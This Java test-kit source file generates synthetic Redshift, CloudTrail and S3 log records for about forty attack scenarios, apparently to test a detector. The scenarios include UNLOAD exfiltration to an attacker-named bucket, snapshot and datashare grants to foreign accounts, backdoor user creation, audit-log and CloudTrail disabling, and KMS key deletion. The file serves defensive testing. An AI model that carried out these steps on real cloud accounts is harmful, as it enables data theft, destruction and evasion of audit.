package io.rsaudit.testkit.logs;

import io.rsaudit.core.hunt.LogType;
import java.io.IOException;
import java.util.List;

/** Writes each {@link Scenario}'s records into a file and records where they landed. */
final class Scenarios {

    private static final String ATTACKER = "185.220.101.";
    private static final String ACCT = LogGenerator.ACCOUNT;

    private final LogGenerator g;
    private final LogGenerator.LogFile f;
    private final LogType type;
    private final String cluster;
    private final List<LogGenerator.Injection> out;
    private Scenario current;

    Scenarios(LogGenerator g, LogGenerator.LogFile f, LogType type, String cluster, List<LogGenerator.Injection> out) {
        this.g = g;
        this.f = f;
        this.type = type;
        this.cluster = cluster;
        this.out = out;
    }

    /** Writes the index-th scenario of this file's type starting at time t; returns the time after it. */
    long inject(int index, long t) throws IOException {
        current = Scenario.nth(type, index);
        return switch (current) {
            case BRUTE_FORCE -> {
                for (int i = 0; i < 30; i++) {
                    conn("authentication failure", t += 2_000, ATTACKER + "7", LogGenerator.ADMIN, true, "psql");
                }
                yield t;
            }
            case PASSWORD_SPRAY -> {
                String[] users = {
                    "admin",
                    "root",
                    "etl_loader",
                    "dash_reader",
                    "analyst_1",
                    "analyst_2",
                    "analyst_3",
                    "postgres",
                    "redshift",
                    "test",
                    "dbadmin",
                    "awsuser"
                };
                for (String u : users) {
                    conn("authentication failure", t += 3_000, ATTACKER + "8", u, true, "psql");
                }
                yield t;
            }
            case SUCCESS_AFTER_FAILURES -> {
                for (int i = 0; i < 8; i++) {
                    conn("authentication failure", t += 1_500, ATTACKER + "9", "analyst_3", true, "psql");
                }
                conn("authenticated", t += 1_500, ATTACKER + "9", "analyst_3", true, "psql");
                yield t;
            }
            case NON_TLS_REMOTE -> {
                conn("authenticated", t += 1_000, "10.44.3.21", "dash_reader", false, "psql");
                yield t;
            }
            case PUBLIC_IP_LOGIN -> {
                conn("authenticated", t += 1_000, ATTACKER + "10", "analyst_2", true, "DBeaver 23.0");
                yield t;
            }
            case ADMIN_NEW_SOURCE -> {
                conn("authenticated", t += 1_000, "192.168.200.5", LogGenerator.ADMIN, true, "psql");
                yield t;
            }
            case ALTER_USER_CREATEUSER -> sql(t, "analyst_2", "alter user analyst_2 createuser;");
            case GRANT_ALL -> sql(t, "analyst_2", "grant all on all tables in schema public to analyst_2;");
            case GRANT_TO_PUBLIC -> sql(t, "analyst_2", "grant select on table finance.salaries to public;");
            case GRANT_ROLE_SUPERUSER -> sql(t, "analyst_2", "grant role sys:superuser to analyst_2;");
            case CREATE_RENAME_DROP_USER_SQL -> {
                t = sql(t, LogGenerator.ADMIN, "create user backdoor password '***';");
                t = sql(t, LogGenerator.ADMIN, "alter user backdoor rename to svc_backup;");
                yield sql(t, LogGenerator.ADMIN, "drop user svc_backup;");
            }
            case UNLOAD_FOREIGN_BUCKET ->
                sql(
                        t,
                        "analyst_2",
                        "unload ('select * from finance.salaries') to"
                                + " 's3://exfil-drop-7731/dump_' iam_role 'arn:aws:iam::" + ACCT
                                + ":role/RedshiftUnload';");
            case DATASHARE_FOREIGN_ACCOUNT -> {
                t = setup(t, "analyst_2", "create datashare salesshare;");
                t = setup(t, "analyst_2", "alter datashare salesshare add schema finance;");
                yield sql(
                        t,
                        "analyst_2",
                        "grant usage on datashare salesshare to account '" + LogGenerator.FOREIGN_ACCOUNT + "';");
            }
            case CATALOG_RECON -> {
                t = sql(t, "analyst_2", "select usename, usesuper from pg_user;");
                t = sql(t, "analyst_2", "select * from svv_table_info order by size desc;");
                // listing tables is what every client does on connect: part of the recon, not what gives it away
                yield setup(t, "analyst_2", "select * from pg_tables\nwhere schemaname not in ('pg_catalog');");
            }
            case CREDENTIALS_IN_COPY ->
                sql(
                        t,
                        "etl_loader",
                        "copy staging.orders from 's3://" + LogGenerator.ALLOWED_BUCKET
                                + "/in/orders/' credentials 'aws_access_key_id=AKIAIOSFODNN7EXAMPLE;"
                                + "aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' csv;");
            case TERMINATE_SPREE -> {
                for (int i = 0; i < 10; i++) {
                    t = sql(t, "analyst_2", "select pg_terminate_backend(" + (20_000 + i * 7) + ");");
                }
                yield t;
            }
            case DROP_AUDIT_TABLE -> sql(t, "analyst_2", "drop table admin.audit_log;");
            case SYSLOG_UNRESTRICTED -> sql(t, "analyst_2", "alter user analyst_2 with syslog access unrestricted;");
            case ROW_LEVEL_SECURITY_OFF -> sql(t, "analyst_2", "alter table finance.salaries row level security off;");
            // the cluster's role chained to one the attacker's account trusts: its catalog, read from here
            case ROLE_CHAIN_FOREIGN ->
                sql(
                        t,
                        "analyst_2",
                        "create external schema ext_drop from data catalog database 'drop' iam_role 'arn:aws:iam::"
                                + ACCT + ":role/RedshiftSpectrum,arn:aws:iam::" + LogGenerator.FOREIGN_ACCOUNT
                                + ":role/catalog';");
            case SUPERUSER_FLAG -> {
                t = user(t, "analyst_2", "", "alter", 0, 0);
                yield user(t, "analyst_2", "", "alter", 1, 1);
            }
            case CREATE_RENAME_DROP_USER -> {
                t = user(t, "backdoor", "", "create", 0, 0);
                t = user(t, "svc_backup", "backdoor", "rename", 0, 0);
                yield user(t, "svc_backup", "", "drop", 0, 0);
            }
            case DISABLE_LOGGING -> trail(t, "redshift", "DisableLogging", q("clusterIdentifier", cluster));
            case ENABLE_LOGGING_FOREIGN_BUCKET ->
                trail(
                        t,
                        "redshift",
                        "EnableLogging",
                        q("clusterIdentifier", cluster) + "," + q("bucketName", "attacker-log-sink") + ","
                                + q("s3KeyPrefix", "x/"));
            case REQUIRE_SSL_OFF ->
                trail(
                        t,
                        "redshift",
                        "ModifyClusterParameterGroup",
                        q("parameterGroupName", "prod-params") + ",\"parameters\":[{"
                                + q("parameterName", "require_ssl") + "," + q("parameterValue", "false") + "}]");
            case ACTIVITY_LOGGING_OFF ->
                trail(
                        t,
                        "redshift",
                        "ModifyClusterParameterGroup",
                        q("parameterGroupName", "prod-params") + ",\"parameters\":[{"
                                + q("parameterName", "enable_user_activity_logging") + ","
                                + q("parameterValue", "false")
                                + "}]");
            case SNAPSHOT_SHARED_FOREIGN ->
                trail(
                        t,
                        "redshift",
                        "AuthorizeSnapshotAccess",
                        q("snapshotIdentifier", "prod-dw-manual-1") + "," + q("snapshotClusterIdentifier", cluster)
                                + "," + q("accountWithRestoreAccess", LogGenerator.FOREIGN_ACCOUNT));
            // EEA data (REGION) copied to the US: what the default residency policy forbids.
            case SNAPSHOT_COPY_FORBIDDEN_REGION ->
                trail(
                        t,
                        "redshift",
                        "EnableSnapshotCopy",
                        q("clusterIdentifier", cluster) + "," + q("destinationRegion", "us-east-1")
                                + ",\"retentionPeriod\":7");
            case RETENTION_CUT_THEN_DELETE -> {
                t = trail(
                        t,
                        "redshift",
                        "ModifyClusterSnapshot",
                        q("snapshotIdentifier", "prod-dw-manual-1")
                                + ",\"manualSnapshotRetentionPeriod\":1,\"force\":true");
                yield trail(
                        t,
                        "redshift",
                        "DeleteClusterSnapshot",
                        q("snapshotIdentifier", "prod-dw-manual-1") + "," + q("snapshotClusterIdentifier", cluster));
            }
            case CLUSTER_MADE_PUBLIC ->
                trail(t, "redshift", "ModifyCluster", q("clusterIdentifier", cluster) + ",\"publiclyAccessible\":true");
            case PORT_OPEN_TO_WORLD ->
                trail(
                        t,
                        "ec2",
                        "AuthorizeSecurityGroupIngress",
                        q("groupId", "sg-0abc1234") + ",\"ipPermissions\":{\"items\":[{\"ipProtocol\":\"tcp\","
                                + "\"fromPort\":5439,\"toPort\":5439,\"ipRanges\":{\"items\":[{\"cidrIp\":\"0.0.0.0/0\"}]}}]}");
            case MASTER_PASSWORD_RESET ->
                trail(
                        t,
                        "redshift",
                        "ModifyCluster",
                        q("clusterIdentifier", cluster) + ","
                                + q("masterUserPassword", "HIDDEN_DUE_TO_SECURITY_REASONS"));
            case CLOUDTRAIL_STOPPED -> trail(t, "cloudtrail", "StopLogging", q("name", "org-trail"));
            case CLOUDTRAIL_DELETED -> trail(t, "cloudtrail", "DeleteTrail", q("name", "org-trail"));
            case ADMIN_CREDENTIALS ->
                trail(
                        t,
                        "redshift",
                        "GetClusterCredentials",
                        q("clusterIdentifier", cluster) + "," + q("dbUser", LogGenerator.ADMIN) + ","
                                + q("dbName", "dev") + ",\"autoCreate\":false");
            // a Serverless snapshot that a foreign account may restore, through its resource policy (a JSON text)
            case SERVERLESS_SNAPSHOT_SHARED_FOREIGN -> {
                String policy =
                        "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":[\""
                                + LogGenerator.FOREIGN_ACCOUNT
                                + "\"]},\"Action\":[\"redshift-serverless:RestoreFromSnapshot\"]}]}";
                yield trail(
                        t,
                        "redshift-serverless",
                        "PutResourcePolicy",
                        q(
                                        "resourceArn",
                                        "arn:aws:redshift-serverless:" + LogGenerator.REGION + ":" + ACCT
                                                + ":snapshot/5f0c8a2e-1b3d-4c6e-9f7a-2d4b6c8e0a1f")
                                + "," + q("policy", policy.replace("\"", "\\\"")));
            }
            case AUDIT_BUCKET_POLICY_DELETED ->
                trail(t, "s3", "DeleteBucketPolicy", auditLogBucket() + "," + q("policy", ""));
            // the audit logs expire after a day
            case AUDIT_LOG_EXPIRY_CUT ->
                trail(
                        t,
                        "s3",
                        "PutBucketLifecycle",
                        auditLogBucket() + "," + q("lifecycle", "") + ",\"LifecycleConfiguration\":{\"Rule\":{"
                                + "\"Filter\":{\"Prefix\":\"\"},\"Expiration\":{\"Days\":1},\"ID\":\"expire\","
                                + "\"Status\":\"Enabled\"}}");
            // management events logged for reads only: Redshift's management calls are writes
            case TRAIL_NARROWED_TO_READS ->
                trail(
                        t,
                        "cloudtrail",
                        "PutEventSelectors",
                        q("trailName", "org-trail") + ",\"eventSelectors\":[{" + q("readWriteType", "ReadOnly")
                                + ",\"includeManagementEvents\":true,\"dataResources\":[],"
                                + "\"excludeManagementEventSources\":[]}]");
            // every parameter back to the engine default: require_ssl and user activity logging off
            case PARAMETER_GROUP_RESET ->
                trail(
                        t,
                        "redshift",
                        "ResetClusterParameterGroup",
                        q("parameterGroupName", "prod-params") + ",\"resetAllParameters\":true");
            // the cluster re-encrypted under a key the attacker's account holds
            case CLUSTER_KEY_FOREIGN ->
                trail(
                        t,
                        "redshift",
                        "ModifyCluster",
                        q("clusterIdentifier", cluster) + ",\"encrypted\":true,"
                                + q(
                                        "kmsKeyId",
                                        "arn:aws:kms:" + LogGenerator.REGION + ":" + LogGenerator.FOREIGN_ACCOUNT
                                                + ":key/7c1e9a3b-2d4f-4e8a-9b6c-5d3e1f7a9c2b"));
            // the shortest wait KMS allows before the key, and the data under it, are gone
            case KEY_SCHEDULED_FOR_DELETION ->
                trail(
                        t,
                        "kms",
                        "ScheduleKeyDeletion",
                        q(
                                        "keyId",
                                        "arn:aws:kms:" + LogGenerator.REGION + ":" + ACCT
                                                + ":key/0d9e8f7a-6b5c-4d3e-8f2a-1b0c9d8e7f6a")
                                + ",\"pendingWindowInDays\":7");
            // a grant lets the other account decrypt with the key without a change to its policy
            case KEY_GRANTED_OUT ->
                trail(
                        t,
                        "kms",
                        "CreateGrant",
                        q(
                                        "keyId",
                                        "arn:aws:kms:" + LogGenerator.REGION + ":" + ACCT
                                                + ":key/0d9e8f7a-6b5c-4d3e-8f2a-1b0c9d8e7f6a")
                                + ","
                                + q(
                                        "granteePrincipal",
                                        "arn:aws:iam::" + LogGenerator.FOREIGN_ACCOUNT + ":role/replication")
                                + ",\"operations\":[\"Decrypt\",\"CreateGrant\"]");
            // the key policy, as CloudTrail logs it (a JSON string), lets the other account's root decrypt
            case KEY_POLICY_OPENED ->
                trail(
                        t,
                        "kms",
                        "PutKeyPolicy",
                        q(
                                        "keyId",
                                        "arn:aws:kms:" + LogGenerator.REGION + ":" + ACCT
                                                + ":key/0d9e8f7a-6b5c-4d3e-8f2a-1b0c9d8e7f6a")
                                + ","
                                + q("policyName", "default")
                                + ",\"policy\":\"{\\\"Version\\\":\\\"2012-10-17\\\",\\\"Statement\\\":["
                                + keyPolicyStatement("arn:aws:iam::" + ACCT + ":root", "kms:*")
                                + ","
                                + keyPolicyStatement(
                                        "arn:aws:iam::" + LogGenerator.FOREIGN_ACCOUNT + ":root", "kms:Decrypt")
                                + "]}\",\"bypassPolicyLockoutSafetyCheck\":false");
            case AUTOMATED_SNAPSHOTS_OFF ->
                trail(
                        t,
                        "redshift",
                        "ModifyCluster",
                        q("clusterIdentifier", cluster) + ",\"automatedSnapshotRetentionPeriod\":0");
            // COPY and UNLOAD no longer held to the VPC's endpoint policies
            case ENHANCED_VPC_ROUTING_OFF ->
                trail(
                        t,
                        "redshift",
                        "ModifyCluster",
                        q("clusterIdentifier", cluster) + ",\"enhancedVpcRouting\":false");
        };
    }

    /** A key policy statement letting {@code principal} make {@code action}, escaped as a JSON string's content. */
    private static String keyPolicyStatement(String principal, String action) {
        return "{\\\"Effect\\\":\\\"Allow\\\",\\\"Principal\\\":{\\\"AWS\\\":\\\"" + principal
                + "\\\"},\\\"Action\\\":\\\"" + action + "\\\",\\\"Resource\\\":\\\"*\\\"}";
    }

    /** The request parameters that name the audit log bucket, as S3's CloudTrail records give them. */
    private static String auditLogBucket() {
        String bucket = LogGenerator.AUDIT_LOG_BUCKET;
        return q("bucketName", bucket) + "," + q("Host", bucket + ".s3." + LogGenerator.REGION + ".amazonaws.com");
    }

    private static String q(String k, String v) {
        return "\"" + k + "\":\"" + v + "\"";
    }

    private void record(String what) {
        record(what, true);
    }

    private void record(String what, boolean attack) {
        long line = type == LogType.CLOUDTRAIL && f.records > 0 ? f.line + 2 : f.nextLine();
        out.add(new LogGenerator.Injection(current, type, f.path, line, attack, what));
    }

    private void conn(String event, long t, String host, String user, boolean tls, String app) throws IOException {
        record(event + " " + user + " from " + host + (tls ? "" : " without TLS"));
        g.connection(f, event, t, host, user, tls, app, 0);
    }

    private long sql(long t, String user, String sql) throws IOException {
        return sql(t, user, sql, true);
    }

    /** A statement the scenario needs that is harmless on its own. */
    private long setup(long t, String user, String sql) throws IOException {
        return sql(t, user, sql, false);
    }

    private long sql(long t, String user, String sql, boolean attack) throws IOException {
        t += 1_000;
        record(sql, attack);
        g.activity(f, t, user, sql);
        return t;
    }

    private long user(long t, String user, String old, String action, int createdb, int superuser) throws IOException {
        t += 1_000;
        record(action + " " + user + " usesuper=" + superuser);
        g.userlog(f, t, user, old, action, createdb, superuser);
        return t;
    }

    private long trail(long t, String service, String name, String request) throws IOException {
        t += 60_000;
        record(service + ":" + name + " " + request);
        g.trail(
                f,
                t,
                service + ".amazonaws.com",
                name,
                "arn:aws:iam::" + ACCT + ":user/mallory",
                ATTACKER + "11",
                request,
                null);
        return t;
    }
}
